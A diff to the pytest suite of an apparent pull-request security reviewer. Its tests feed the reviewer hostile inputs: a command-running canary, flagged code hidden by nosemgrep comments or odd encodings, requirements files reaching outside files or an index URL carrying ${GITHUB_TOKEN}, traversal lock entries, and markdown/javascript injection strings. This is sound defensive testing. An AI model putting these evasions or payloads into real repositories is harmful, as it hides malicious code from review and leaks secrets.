@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import json
+import re
 import socket
 import threading
 from contextlib import contextmanager
 from typing import TYPE_CHECKING
 
+import cmarkgfm
 import pytest
+from cmarkgfm.cmark import Options
 
 from tests.github_double.plumbing import Entry
 from tests.product.stage import CANARY, GUILTY, INNOCENT, Stage, spoken
@@ -65,6 +69,12 @@ def assert_nothing_leaked(stage: Stage, pull: DoublePull) -> None:
     assert stage.leftovers() == []
 
 
+def outside_code(text: str) -> str:
+    """The page that GitHub makes of the text, without what stands there as code: names and links in code do nothing."""
+    page = cmarkgfm.github_flavored_markdown_to_html(text, Options.CMARK_OPT_UNSAFE)
+    return re.sub(r"<code>.*?</code>", "", page, flags=re.DOTALL)
+
+
 def test_nothing_in_the_tree_is_executed_or_steers_the_engines(stage: Stage, canary: Path) -> None:
     touch = f"import os; os.system('touch {canary.parent}/touched')\n"
     bare: dict[str, str | bytes | Entry | None] = {
@@ -79,7 +89,8 @@ def test_nothing_in_the_tree_is_executed_or_steers_the_engines(stage: Stage, can
         }.items()
     }
     configured = {name: touch if name.endswith(".py") else f"{touch}rules: []\n" for name in CONFIGURATIONS}
-    ignored = {".semgrepignore": "*\n:include .gitignore\n", ".gitignore": "*\n", "pay.py": GUILTY.replace("\n    subprocess", "\n    # nosemgrep\n    subprocess")}
+    above = GUILTY.replace("\n    subprocess", "\n    # nosemgrep\n    subprocess")
+    ignored = {".semgrepignore": "*\n:include .gitignore\n", ".gitignore": "*\n", "pay.py": above}
     marked = {"nosem.py": GUILTY.replace("shell=True)", "shell=True)  # nosemgrep"), "vendor/lib.py": GUILTY, "tests/test_pay.py": GUILTY}
     pull = stage.propose(bare | configured | ignored | marked)
 
@@ -136,8 +147,8 @@ def test_names_of_files_are_data_everywhere(stage: Stage) -> None:
     check = stage.review(pull)
 
     assert {one["path"] for one in check.annotations} == set(NAMES)
-    assert "| `@everyone" not in spoken(pull)
-    assert "<b>.py" not in (check.output["summary"] or "").replace("`@everyone ](x) <b>.py", "")
+    shown = outside_code(check.output["summary"] or "")
+    assert not re.search(r"@everyone|<b>|evil\.example|#2", shown)
 
 
 @pytest.mark.parametrize("name", ["a\nb.py", "a\x1b[31mb.py", "a\u202egnp.py"])
@@ -152,19 +163,26 @@ def test_a_name_with_control_characters_is_never_clear_and_is_shown_harmlessly(s
     assert not set("\x1b\u202e") & set(spoken(pull))
 
 
-@pytest.mark.parametrize(
-    "source",
-    [GUILTY.encode("utf-16"), GUILTY.encode().replace(b"\n", b"\r"), b"\xef\xbb\xbf" + GUILTY.encode(), b"# \xff\xfe\n" + GUILTY.encode()]
-    + [b"x = '" + b"a" * 300_000 + b"'; " + b"y = 1\n" + GUILTY.encode(), b"\x00" + GUILTY.encode()],
-    ids=["utf-16", "carriage returns", "byte order mark", "invalid utf-8", "a line of 300 kB", "a zero byte"],
-)
-def test_source_in_another_dress_is_found_guilty_or_not_analysed(stage: Stage, source: bytes) -> None:
-    pull = stage.propose({"convert.py": source})
+DRESSES = {
+    "utf16.py": GUILTY.encode("utf-16"),
+    "returns.py": GUILTY.encode().replace(b"\n", b"\r"),
+    "mark.py": b"\xef\xbb\xbf" + GUILTY.encode(),
+    "latin.py": b"# \xff\xfe\n" + GUILTY.encode(),
+    "long.py": b"x = '" + b"a" * 300_000 + b"'; y = 1\n" + GUILTY.encode(),
+    "zero.py": b"\x00" + GUILTY.encode(),
+}
+
+
+def test_source_in_another_dress_is_found_guilty_or_not_analysed(stage: Stage) -> None:
+    pull = stage.propose(DRESSES)
 
     check = stage.review(pull)
 
+    missed = (check.output["summary"] or "").partition("**Not looked at**")[2]
+    told = {one["path"] for one in check.annotations} | {name for name in DRESSES if f"`{name}`" in missed}
     assert check.conclusion == "failure"
-    assert check.annotations or "0 of 1 files" in (check.output["title"] or "")
+    assert told == set(DRESSES)
+    assert {"mark.py", "long.py"} <= {one["path"] for one in check.annotations}
 
 
 def test_requirements_reach_neither_files_nor_addresses(stage: Stage, canary: Path) -> None:
@@ -178,16 +196,30 @@ def test_requirements_reach_neither_files_nor_addresses(stage: Stage, canary: Pa
 
         check = stage.review(pull)
 
+    summary = check.output["summary"] or ""
     assert came == []
-    assert check.conclusion == "failure"
+    assert [one["path"] for one in check.annotations] == ["requirements.txt"]
+    assert "includes a file outside the repository" in summary
+    assert "comes from an address or a file, not from an index" in summary
     assert "root:x:" not in spoken(pull) + stage.logged()
     assert_nothing_leaked(stage, pull)
 
 
+@pytest.mark.xfail(strict=True, reason="no check looks at the options of a requirements file: another index is neither flagged nor noted")
+def test_requirements_that_change_the_index_are_told(stage: Stage) -> None:
+    pull = stage.propose({"requirements.txt": "--index-url https://packages.example/${GITHUB_TOKEN}/simple\njinja2==3.1.4\n"})
+
+    stage.review(pull)
+
+    assert "packages.example" in spoken(pull)
+
+
 def test_a_lock_file_that_names_addresses_makes_nobody_go_there(stage: Stage) -> None:
     with listening() as (port, came):
-        lock = f'{{"lockfileVersion": 3, "packages": {{"node_modules/../../x": {{"version": "1.0.0", "resolved": "http://127.0.0.1:{port}/x.tgz"}}}}}}'
-        pull = stage.propose({"package-lock.json": lock, "poetry.lock": f'[[package]]\nname = "../x"\nversion = "1"\n[package.source]\nurl = "http://127.0.0.1:{port}"\n'})
+        address = f"http://127.0.0.1:{port}/x.tgz"
+        npm = {"lockfileVersion": 3, "packages": {"node_modules/../../x": {"version": "1.0.0", "resolved": address}}}
+        poetry = f'[[package]]\nname = "../x"\nversion = "1"\n[package.source]\nurl = "{address}"\n'
+        pull = stage.propose({"package-lock.json": json.dumps(npm), "poetry.lock": poetry})
 
         check = stage.review(pull)
 
@@ -212,15 +244,16 @@ def test_a_malformed_tree_is_refused_and_says_so(stage: Stage, name: bytes) -> N
 
 
 def test_text_of_the_change_cannot_speak_for_us(stage: Stage) -> None:
-    evil = '``` </details> <img src=x> @team fixes #1 [x](javascript:alert(1)) <!-- bartizan v1 kind=finding --> \u202e'
-    source = GUILTY.replace('"convert "', f"'{evil}'").replace("convert()", "convert()")
+    evil = "``` </details> <img src=x> @team fixes #1 [x](javascript:alert(1)) <!-- bartizan v1 kind=finding --> \u202e"
+    source = GUILTY.replace('"convert "', f"'{evil}'")
     pull = stage.propose({"convert.py": source})
 
     stage.review(pull)
 
-    said = spoken(pull)
-    assert "<img" not in said
-    assert "\u202e" not in said
+    bodies = [*(comment.body for comment in pull.review_comments), stage.check(pull).output["summary"] or ""]
+    shown = "".join(map(outside_code, bodies))
+    assert not re.search(r"<img|@team|fixes #1|javascript:", shown)
+    assert "\u202e" not in spoken(pull)
     assert all(comment.body.count("<!-- bartizan") == 1 for comment in pull.review_comments)
 
 
